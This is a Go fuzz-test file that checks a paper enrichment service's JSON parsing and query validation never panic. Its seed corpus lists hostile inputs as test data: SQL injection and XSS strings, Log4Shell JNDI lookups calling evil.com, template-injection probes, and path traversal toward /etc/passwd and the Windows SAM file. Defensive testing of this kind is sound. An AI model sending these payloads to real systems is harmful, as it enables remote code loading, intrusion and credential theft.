// Package security provides fuzz tests for the paper enrichment service's
// input handling. The primary invariant is that no input should cause a panic
// in JSON parsing, request validation, or query normalization.
package security

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

// enrichRequest mirrors the HTTP handler's request struct for fuzz testing
// without importing the internal httpserver package.
type enrichRequest struct {
	Query     string `json:"query"`
	Count     int    `json:"count,omitempty"`
	DateRange string `json:"date_range,omitempty"`
}

// Bounds matching the constants in the HTTP handler package.
const (
	minQueryLength = 3
	maxQueryLength = 500
)

// validDateRanges mirrors the recency windows the handler accepts.
var validDateRanges = map[string]bool{"": true, "week": true, "month": true, "year": true}

// FuzzEnrichQuery tests that arbitrary input to the query field never causes
// a panic during JSON encoding/decoding or basic validation logic. This
// exercises the same code paths that a real HTTP request would traverse
// before reaching the search provider.
func FuzzEnrichQuery(f *testing.F) {
	// Seed corpus with interesting edge cases.
	seeds := []string{
		// SQL injection payloads
		"'; DROP TABLE papers; --",
		"1 OR 1=1",
		"' UNION SELECT * FROM users --",
		"Robert'); DROP TABLE students;--",

		// XSS payloads
		"<script>alert('xss')</script>",
		`<img src=x onerror=alert('xss')>`,
		`<svg/onload=alert('xss')>`,

		// Null bytes and control characters
		"query\x00with\x00nulls",
		"query\nwith\nnewlines",
		"query\twith\ttabs",
		"query\rwith\rcarriage\rreturns",

		// Unicode edge cases
		"",
		"​", // zero-width space
		"﻿", // BOM
		"�", // replacement character
		"\U0001F4A9",                // emoji (pile of poo)
		"Schrödinger's cat",    // umlaut
		"‮right-to-left‬", // RTL override
		" ",  // low control chars
		string([]byte{0xfe, 0xff}),  // invalid UTF-8

		// Strings around the length boundary
		strings.Repeat("a", maxQueryLength),
		strings.Repeat("a", maxQueryLength+1),
		strings.Repeat("é", 300), // multi-byte characters crossing the byte limit

		// JNDI / Log4Shell
		"${jndi:ldap://evil.com/a}",
		"${jndi:rmi://evil.com/a}",

		// Template injection
		"{{.Env.SECRET}}",
		"${7*7}",
		"#{7*7}",

		// Path traversal
		"../../etc/passwd",
		"..\\..\\windows\\system32\\config\\sam",

		// JSON special characters
		`{"nested": "json"}`,
		`"already quoted"`,
		"\\n\\t\\r\\0",

		// Empty and whitespace
		"",
		" ",
		"   ",
		"\t\n\r",
	}

	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, query string) {
		// Invariant 1: JSON round-trip must never panic.
		req := enrichRequest{Query: query}
		encoded, err := json.Marshal(req)
		if err != nil {
			// json.Marshal can fail for some inputs; that is fine as long
			// as it does not panic.
			return
		}

		var decoded enrichRequest
		if err := json.Unmarshal(encoded, &decoded); err != nil {
			// Unmarshal failure is acceptable; a panic is not.
			return
		}

		// Invariant 2: For valid UTF-8 input, the decoded query must be
		// identical to the original after a successful round-trip.
		// Invalid UTF-8 is replaced with U+FFFD by json.Marshal (Go 1.13+),
		// which is expected and safe behavior.
		if utf8.ValidString(query) && decoded.Query != query {
			t.Errorf("JSON round-trip changed valid UTF-8 query:\n  original: %q\n  decoded:  %q", query, decoded.Query)
		}

		// Invariant 3: Validation logic must never panic.
		trimmed := strings.TrimSpace(query)
		_ = len(trimmed) < minQueryLength
		_ = len(trimmed) > maxQueryLength
		_ = utf8.ValidString(trimmed)

		// Invariant 4: Constructing a JSON body from fuzzed input
		// and attempting to unmarshal it must not panic.
		rawBody := `{"query":` + string(encoded[len(`{"query":`):len(encoded)-1]) + `}`
		var fromRaw enrichRequest
		_ = json.Unmarshal([]byte(rawBody), &fromRaw)

		// Invariant 5: Building a full request body with every optional
		// field set from the fuzzed query must not panic.
		fullReq := enrichRequest{
			Query:     query,
			Count:     10,
			DateRange: query, // use fuzzed input as date range too
		}
		fullEncoded, err := json.Marshal(fullReq)
		if err != nil {
			return
		}

		var fullDecoded enrichRequest
		if err := json.Unmarshal(fullEncoded, &fullDecoded); err != nil {
			return
		}
		_ = validDateRanges[fullDecoded.DateRange]
	})
}

// FuzzJSONPayload tests that arbitrary bytes sent as a JSON request body
// never cause a panic in the JSON unmarshaling path.
func FuzzJSONPayload(f *testing.F) {
	// Seed with valid and malformed JSON payloads.
	f.Add([]byte(`{"query":"valid query","count":3,"date_range":"week"}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`{"query":""}`))
	f.Add([]byte(`{"query":null}`))
	f.Add([]byte(`{"query":123}`))
	f.Add([]byte(`{"query":true}`))
	f.Add([]byte(`{"query":[]}`))
	f.Add([]byte(`{"count":"three"}`))
	f.Add([]byte(`{"count":-1}`))
	f.Add([]byte(`{"count":99999999999999999999}`))
	f.Add([]byte(`{"date_range":"decade"}`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte(`{"query":"a","extra":"b"}`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})
	f.Add([]byte(`{"query": "` + strings.Repeat("a", 100000) + `"}`))
	f.Add([]byte(`{` + strings.Repeat(`"k":`, 100) + `"v"}`))

	f.Fuzz(func(t *testing.T, data []byte) {
		// Invariant: Unmarshal must never panic regardless of input.
		var req enrichRequest
		_ = json.Unmarshal(data, &req)

		// If we got a query, validate it does not panic.
		if req.Query != "" {
			trimmed := strings.TrimSpace(req.Query)
			_ = len(trimmed) > maxQueryLength
			_ = utf8.ValidString(trimmed)
		}
		_ = validDateRanges[req.DateRange]
		_ = req.Count >= 1 && req.Count <= 10
	})
}
